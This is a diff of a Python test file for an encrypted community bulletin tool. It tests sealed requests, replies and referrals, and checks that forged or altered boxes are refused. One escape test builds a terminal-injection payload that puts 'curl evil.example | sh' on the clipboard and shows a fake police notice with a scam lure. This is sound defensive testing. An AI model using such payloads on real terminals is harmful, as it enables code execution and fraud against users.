@@ -10,7 +10,11 @@ meson test:  test_cli.py WATCHMESH TEST [SOURCE_ROOT]
   resync   a damaged length byte and a truncated end cost one event each
   search   Chinese search, including the two-character words 诈骗 and 走失
   pii      personal data refused before signing; --allow-personal-data
-  sealed   a sealed request opens with the officer's and the author's key only
+  sealed   a sealed request opens with its recipients' and the author's keys only
+           (--to officers); a sealed reply; a referral re-sealed for an office
+  sealed_attacks  issue 8, item 8: a box re-signed, re-sealed, cut, given a
+           topic in clear or changed is refused, never shown as the forger's;
+           the bytes name no recipient, topic or language, the length is padded
   errors   bad command lines and broken files: one line, non-zero exit
   post     what post puts in an event: defaults, circle, photo, expiry, refs
   check    export, then the independent Python check of the bundle
@@ -36,6 +40,7 @@ meson test:  test_cli.py WATCHMESH TEST [SOURCE_ROOT]
            EXIF GPS, XMP and PNG text stripped from photos; damaged photos
            refused; ordinary bulletins still pass
 """
+import hashlib
 import json
 import os
 import subprocess
@@ -49,6 +54,54 @@ from wmtest import check, Failure  # noqa: E402
 
 G = "gaobu.xinhua"
 PASS = None  # set per test through env
+
+
+def seal_ad(kind, net, author, group):
+    """PROTOCOL.md section 6: what a box is bound to besides its slots."""
+    g = group.encode()
+    return b"watchmesh sealed 2" + bytes([kind]) + net + author + bytes([len(g)]) + g
+
+
+def seal_inner(seed, kind, net, group, recipients, text, topic="", lang=""):
+    """The inside of a box, signed by the author whose seed is given."""
+    from nacl.signing import SigningKey
+    author = bytes(SigningKey(seed).verify_key)
+    body = (bytes([len(recipients)]) + b"".join(recipients) + bytes([len(topic.encode())]) +
+            topic.encode() + bytes([len(lang)]) + lang.encode() + text.encode())
+    sig = SigningKey(seed).sign(hashlib.sha256(seal_ad(kind, net, author, group) + body).digest()).signature
+    return sig + body
+
+
+def seal_box(inner, ad, recipients, author):
+    """Section 6 with PyNaCl: count, nonce, slots (recipients, then the
+    author), XChaCha20-Poly1305 of the inside padded to 256 over ad || the clear part."""
+    from nacl.bindings import crypto_aead_xchacha20poly1305_ietf_encrypt, crypto_sign_ed25519_pk_to_curve25519
+    from nacl.public import PublicKey, SealedBox
+    k, nonce = os.urandom(32), os.urandom(24)
+    hdr = bytes([len(recipients)]) + nonce + b"".join(
+        SealedBox(PublicKey(crypto_sign_ed25519_pk_to_curve25519(pk))).encrypt(k) for pk in recipients + [author])
+    p = inner + b"\x80"
+    p += bytes(-len(p) % 256)
+    return hdr + crypto_aead_xchacha20poly1305_ietf_encrypt(p, ad + hdr, nonce, k)
+
+
+def seal_open(box, ad, seed):
+    """The inside of a box for the recipient whose seed is given (padding removed)."""
+    from nacl.bindings import (crypto_aead_xchacha20poly1305_ietf_decrypt, crypto_box_seal_open,
+                               crypto_sign_ed25519_pk_to_curve25519, crypto_sign_ed25519_sk_to_curve25519,
+                               crypto_sign_seed_keypair)
+    import nacl.exceptions
+    pk, sk = crypto_sign_seed_keypair(seed)
+    xpk, xsk = crypto_sign_ed25519_pk_to_curve25519(pk), crypto_sign_ed25519_sk_to_curve25519(sk)
+    hdr = 25 + 80 * (box[0] + 1)
+    for i in range(box[0]):
+        try:
+            k = crypto_box_seal_open(box[25 + 80 * i:25 + 80 * (i + 1)], xpk, xsk)
+        except nacl.exceptions.CryptoError:
+            continue
+        m = crypto_aead_xchacha20poly1305_ietf_decrypt(box[hdr:], ad + box[:hdr], box[1:25], k)
+        return m.rstrip(b"\0")[:-1]
+    raise Failure("no slot of the box opens for this key")
 
 
 def refused_lines(err):
@@ -253,34 +306,167 @@ def t_pii(env):
 
 
 def t_sealed(env):
+    """A sealed request opens with its recipients' and its author's keys
+    only; `--to officers` is the group's officers and stations; a sealed
+    reply opens for its recipients only; an officer refers the request to
+    an office by re-sealing it, and the office reads it, nobody else."""
     env.world("v")
     secret = "我怀疑隔壁在做传销，请勿透露我的身份。"
-    rid = env.post("request", "v", "res1.key", "--group", G, "--topic", "police",
-                   "--text", secret, "--to", "officer.key")
+    rid = env.post("request", "v", "res1.key", "--group", G, "--topic", "dispute",
+                   "--text", secret, "--to", "officers")
 
-    def private(*key):
-        a = ["feed", "--dir", "v", "--json", "--kind", "request"]
+    def opened(eid, *key):
+        a = ["feed", "--dir", "v", "--json", "--all"]
         if key:
             a += ["--key", key[0]]
             if wmtest.key_encrypted(env.path(key[0])):
                 a += ["--passphrase-file", env.passfile]
-        evs = [e for e in env.json(*a) if e["id"] == rid]
-        check(len(evs) == 1, "request not in feed")
-        check("text" not in evs[0]["content"], "a sealed request carries text")
-        return evs[0].get("private_text")
+        evs = [e for e in env.json(*a) if e["id"] == eid]
+        check(len(evs) == 1, "%s not in feed" % eid)
+        check(set(evs[0]["content"]) <= {"box", "state", "referred_to", "note"},
+              "a sealed event carries more than its box in clear: %r" % evs[0]["content"])
+        return evs[0]
 
-    check(private("officer.key") == secret, "the officer cannot read it")
-    check(private("res1.key") == secret, "the author cannot read it")
-    check(private("res2.key") is None, "another resident can read it")
-    check(private() is None, "readable without a key")
+    officer = env.run("key", "show", "officer.key")[0].strip()
+    station = env.run("key", "show", "station.key")[0].strip()
+    e = opened(rid, "officer.key")
+    check(e.get("private_text") == secret and e.get("private_topic") == "dispute" and
+          e.get("private_lang") == "zh", "the officer cannot read it: %r" % e)
+    check(sorted(e.get("private_to", [])) == sorted([officer, station]),
+          "--to officers is not the officer and the station: %r" % e.get("private_to"))
+    check(opened(rid, "station.key").get("private_text") == secret, "the station cannot read it")
+    check(opened(rid, "res1.key").get("private_text") == secret, "the author cannot read it")
+    check("private_text" not in opened(rid, "res2.key"), "another resident can read it")
+    check("private_text" not in opened(rid), "readable without a key")
     out, _ = env.run("feed", "--dir", "v", "--key", "res2.key")
-    check("[sealed request to 1 recipient]" in out and secret not in out, "feed as res2:\n" + out)
+    check("[sealed request to 2 recipients]" in out and secret not in out, "feed as res2:\n" + out)
     out, _ = env.run("show", rid[:10], "--dir", "v", "--key", "officer.key",
                      "--passphrase-file", env.passfile)
-    check(secret in out and "private" in out, "show as officer:\n" + out)
+    check(secret in out and "private" in out and "topic: dispute" in out, "show as officer:\n" + out)
+
+    # a sealed reply: res1 reads it, res2 does not
+    answer = "已安排民警了解情况，会为您保密。"
+    pid = env.post("reply", "v", "officer.key", "--group", G, "--reply-to", rid[:10],
+                   "--text", answer, "--to", "res1.key")
+    check(opened(pid, "res1.key").get("private_text") == answer, "res1 cannot read the sealed reply")
+    check(opened(pid, "officer.key").get("private_text") == answer, "its author cannot read the reply")
+    check("private_text" not in opened(pid, "res2.key"), "res2 reads a reply sealed to res1")
+
+    # the referral: the office reads the request re-sealed for it, nobody else
+    env.key("office.key")
+    sid = env.post("status", "v", "officer.key", "--group", G, "--ref", rid[:10], "--state", "referred",
+                   "--referred-to", "新华村调解中心", "--to", "office.key")
+    e = opened(sid, "office.key")
+    check(e.get("private_text") == secret and e.get("private_topic") == "dispute",
+          "the office cannot read the referred request: %r" % e)
+    for k in ("res2.key", "station.key"):
+        check("private_text" not in opened(sid, k), k + " reads the referral to the office")
+    out, _ = env.run("show", sid[:10], "--dir", "v", "--key", "office.key")
+    check("referred → 新华村调解中心" in out and secret in out, "show as the office:\n" + out)
+    # only a request sealed to the officer can be re-sealed by it; only for a referral
+    pub = env.post("request", "v", "res1.key", "--group", G, "--text", "路灯坏了。")
+    _, err = env.run("post", "status", "--dir", "v", "--key", "officer.key", "--passphrase-file",
+                     env.passfile, "--group", G, "--ref", pub[:10], "--state", "referred",
+                     "--to", "office.key", rc=1)
+    check("not a sealed request" in err, "re-sealing a public request: " + err)
+    _, err = env.run("post", "status", "--dir", "v", "--key", "office.key", "--group", G,
+                     "--ref", rid[:10], "--state", "referred", "--to", "res2.key", rc=1)
+    check("not sealed to your key" in err, "re-sealing a request one cannot open: " + err)
+    env.run("post", "status", "--dir", "v", "--key", "officer.key", "--passphrase-file", env.passfile,
+            "--group", G, "--ref", rid[:10], "--state", "assigned", "--to", "office.key", rc=2)
+
     env.run("export", "--dir", "v", "--out", "v.wm")
     for f in ("v.wm", "v/store.db"):
-        check(secret.encode() not in open(env.path(f), "rb").read(), "plaintext in " + f)
+        data = open(env.path(f), "rb").read()
+        check(secret.encode() not in data and answer.encode() not in data, "plaintext in " + f)
+
+
+def t_sealed_attacks(env):
+    """Issue 8, item 8, as Mallory (res2, PyNaCl) does it.  Alice (res1)
+    seals a request to the officer and to Mallory.  Mallory re-signs the box
+    under her own key, seals its opened inside as her own, drops the
+    officer's slot, adds a topic in clear, flips a byte: each is refused on
+    import or shown as refused, never as Mallory's text.  The event bytes
+    name no recipient, topic or language, and two texts of different lengths
+    make boxes of one length."""
+    import base64
+    import time as _t
+
+    env.world("v")
+    net = wmtest.network_id(env.path("net"))
+    officer = bytes.fromhex(env.run("key", "show", "officer.key")[0].strip())
+    alice = bytes.fromhex(env.run("key", "show", "res1.key")[0].strip())
+    mseed = wmtest.key_seed(env.path("res2.key"))
+    mallory = bytes(nacl.signing.SigningKey(mseed).verify_key)
+    secret = "楼上502的人在家里赌博，别说是我举报的。"
+    rid = env.post("request", "v", "res1.key", "--group", G, "--topic", "police", "--text", secret,
+                   "--to", "officer.key,res2.key")
+    short = env.post("request", "v", "res1.key", "--group", G, "--topic", "other", "--text", "求助",
+                     "--to", "officer.key", "--lang", "en")
+
+    def event_json(eid, key=None):
+        a = ["feed", "--dir", "v", "--json", "--all"]
+        if key:
+            a += ["--key", key] + (["--passphrase-file", env.passfile] if key == "officer.key" else [])
+        evs = [e for e in env.json(*a) if e["id"] == eid]
+        check(len(evs) == 1, eid + " not in the feed")
+        return evs[0]
+
+    box = base64.b64decode(event_json(rid)["content"]["box"])
+    sbox = base64.b64decode(event_json(short)["content"]["box"])
+
+    # what a third party sees: the box only, no recipient, topic or language;
+    # 1 and 60 bytes of text make boxes of one length
+    env.run("export", "--dir", "v", "--out", "v.wm")
+    wires = {wmtest.event_id(w): w for w in wmtest.read_bundle(env.path("v.wm"))}
+    for eid in (rid, short):
+        w = wires[eid]
+        _, _, content = wmtest.unwrap(w)
+        check(list(wmtest.msgpack.unpackb(content, raw=False)) == ["box"],
+              "more than the box in clear: %r" % wmtest.msgpack.unpackb(content, raw=False).keys())
+        for what in (officer, mallory, b"police", b"other", b"lang", b"topic"):
+            check(what not in w, "the event's bytes show %r" % what)
+    check(len(box) == len(sbox) + 80, "the box's length follows the text: %d and %d (one slot apart)"
+          % (len(box), len(sbox)))
+
+    now = int(_t.time() * 1000)
+
+    def forged(content, dt):
+        return wmtest.event(mseed, 3, now + dt, G, content, network=net)
+
+    # 1 Alice's box re-signed under Mallory's key; 2 its inside (with Alice's
+    # signature) sealed again under Mallory's key; 3 a recipient's slot
+    # dropped (Mallory's: the officer's stays); 4 a topic added in clear;
+    # 5 a byte flipped in the text
+    inner = seal_open(box, seal_ad(3, net, alice, G), mseed)
+    resealed = seal_box(inner, seal_ad(3, net, mallory, G), [officer, mallory], mallory)
+    dropped = bytes([1]) + box[1:25 + 80] + box[25 + 160:]
+    flipped = box[:-20] + bytes([box[-20] ^ 1]) + box[-19:]
+    attacks = [forged({"box": box}, 1), forged({"box": resealed}, 2), forged({"box": dropped}, 3),
+               forged({"box": box, "topic": "other"}, 4), forged({"box": flipped}, 5)]
+    with open(env.path("mallory.wm"), "wb") as f:
+        f.write(b"".join(w for w, _ in attacks))
+    out, err = env.run("import", "--dir", "v", "mallory.wm")
+    lines = refused_lines(err)
+    check(len(lines) == 1 and lines[0].startswith("watchmesh: event 4 ") and
+          "carries 'topic' inside its box, never in clear" in lines[0], "the clear topic: " + err)
+    check(summary(out) == "5 events: 4 stored, 0 duplicates, 1 refused", "summary: " + summary(out))
+
+    want = {attacks[0][1]: "the box does not open", attacks[1][1]: "not bound to this author",
+            attacks[2][1]: "the box does not open", attacks[4][1]: "the box does not open"}
+    for eid, why in want.items():
+        e = event_json(eid, "officer.key")
+        check("private_text" not in e and why in e.get("private_refused", ""),
+              "%s as the officer: %r" % (eid[:8], e))
+        out, _ = env.run("show", eid[:10], "--dir", "v", "--key", "officer.key",
+                         "--passphrase-file", env.passfile)
+        check(secret not in out and "not shown: " in out and why in out and "陈先生" in out,
+              "show as the officer:\n" + out)
+    out, _ = env.run("feed", "--dir", "v", "--key", "officer.key", "--passphrase-file", env.passfile)
+    check(out.count(secret) == 1, "the officer's feed shows Alice's text other than once:\n" + out)
+    # Alice's own request still opens for the officer, and for Mallory, a recipient
+    for key in ("officer.key", "res2.key"):
+        check(event_json(rid, key).get("private_text") == secret, "%s cannot read Alice's request" % key)
 
 
 def t_errors(env):
@@ -510,9 +696,6 @@ def t_escape(env):
     import base64
     import sqlite3
     import time as _t
-    from nacl.bindings import crypto_sign_ed25519_pk_to_curve25519
-    from nacl.public import PublicKey, SealedBox
-    from nacl.secret import SecretBox
 
     def raw_controls(text):
         """Characters a terminal acts on, as they reached our stdout/stderr."""
@@ -533,18 +716,15 @@ def t_escape(env):
         return wmtest.event(seed, kind, now + dt, G, content, refs, network=net)
 
     def seal(text, recipients):
-        """PROTOCOL.md section 6: nonce, a slot per recipient and the author, secretbox."""
-        k, nonce = os.urandom(32), os.urandom(24)
-        slots = [SealedBox(PublicKey(crypto_sign_ed25519_pk_to_curve25519(pk))).encrypt(k)
-                 for pk in recipients + [author]]
-        return nonce + b"".join(slots) + SecretBox(k).encrypt(text, nonce).ciphertext
+        inner = seal_inner(seed, 3, net, G, recipients, text, "police")
+        return seal_box(inner, seal_ad(3, net, author, G), recipients, author)
 
     fake = "★ 王警官 · 高埔派出所 — bulletin · " + G
     lure = "请立即把存款转入安全账户"
     attack = ("\x1b[2J\x1b[H" "\x1b]0;watchmesh: official notice\x07"
               "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07" +
               fake + "\n  " + lure)
-    sealed, sealed_id = event(3, {"topic": "police", "to": [officer], "box": seal(attack.encode(), [officer])})
+    sealed, sealed_id = event(3, {"box": seal(attack, [officer])})
     cr, _ = event(4, {"text": "收到\r" + fake + "\n  " + lure}, [bytes.fromhex(sealed_id)], 1)
     csi, _ = event(4, {"text": "收到\u009b2K\u009b1A" + fake}, [bytes.fromhex(sealed_id)], 2)
     topic, _ = event(3, {"topic": "police\u009b2J\x1b[H", "text": lure}, (), 3)
@@ -1139,7 +1319,7 @@ def t_revoke(env):
 
 
 TESTS = {"import": t_import, "resync": t_resync, "search": t_search, "pii": t_pii,
-         "sealed": t_sealed, "post": t_post, "errors": t_errors, "check": t_check,
+         "sealed": t_sealed, "sealed_attacks": t_sealed_attacks, "post": t_post, "errors": t_errors, "check": t_check,
          "vouched": t_vouched, "escape": t_escape, "keys": t_keys, "personal": t_personal,
          "othernet": t_othernet, "chain": t_chain, "revoke": t_revoke}
 
